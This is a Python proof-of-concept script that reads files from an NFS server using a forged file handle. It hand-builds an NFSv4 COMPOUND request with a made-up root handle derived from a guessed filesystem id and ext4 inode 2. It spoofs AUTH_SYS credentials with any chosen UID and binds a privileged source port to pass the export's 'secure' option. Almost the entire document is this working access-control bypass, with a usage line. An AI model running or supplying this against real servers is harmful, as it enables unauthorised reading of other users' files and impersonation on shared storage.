"""Reads a file of an NFS server by a handle that the server never gave to anybody.

What a machine's root can do who may mount a share: a handle is an inode's number in the
server's own words (fs/nfsd/nfsfh.h, FSID_NUM and FILEID_INO32_GEN), number 2 is the root of
an ext4, and AUTH_SYS (RFC 5531) takes the client's word for whose request it is.

    python3 made_up_handle.py SERVER FSID UID /etc/hostname

Prints what is in the file, or the server's refusal: "NFS4ERR 70" is a handle that it does not
take (RFC 7530, 13.1).
"""

from __future__ import annotations

import os
import socket
import struct
import sys

PUTFH, LOOKUP, READ = 22, 15, 25
ROOT_INODE = 2


def opaque(data: bytes) -> bytes:
    """XDR (RFC 4506): the length, and the bytes up to a multiple of four."""
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def request(fsid: int, uid: int, path: str) -> bytes:
    """One COMPOUND of NFSv4.0: from the made-up root down to the file, and read it."""
    handle = bytes([1, 0, 1, 1]) + struct.pack("<III", fsid, ROOT_INODE, 0)
    steps = [struct.pack(">I", PUTFH) + opaque(handle)]
    steps += [struct.pack(">I", LOOKUP) + opaque(n.encode()) for n in path.strip("/").split("/")]
    steps.append(struct.pack(">I", READ) + bytes(16) + struct.pack(">QI", 0, 4096))
    sys_auth = struct.pack(">I", 0) + opaque(b"child") + struct.pack(">III", uid, uid, 0)
    call = struct.pack(">6I", 4711, 0, 2, 100003, 4, 1)
    call += struct.pack(">I", 1) + opaque(sys_auth) + struct.pack(">II", 0, 0)
    return call + opaque(b"") + struct.pack(">II", 0, len(steps)) + b"".join(steps)


def exchange(server: str, call: bytes) -> bytes:
    """Over TCP, from a port that only root can have (the export's "secure")."""
    with socket.create_connection((server, 2049), 30, ("", 600 + os.getpid() % 400)) as line:
        line.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
        with line.makefile("rb") as answers:
            (length,) = struct.unpack(">I", answers.read(4))
            return answers.read(length & 0x7FFFFFFF)


def told(answer: bytes) -> str:
    """The file's text, or the number of the refusal."""
    (status,) = struct.unpack(">I", answer[24:28])
    if status:
        return f"NFS4ERR {status}"
    (length,) = struct.unpack(
        ">I", answer[answer.index(struct.pack(">III", READ, 0, 1)) + 12 :][:4]
    )
    return answer[-(length + -length % 4) :][:length].decode()


if __name__ == "__main__":
    server, fsid, uid, path = sys.argv[1:]
    sys.stdout.write(told(exchange(server, request(int(fsid), int(uid), path))) + "\n")
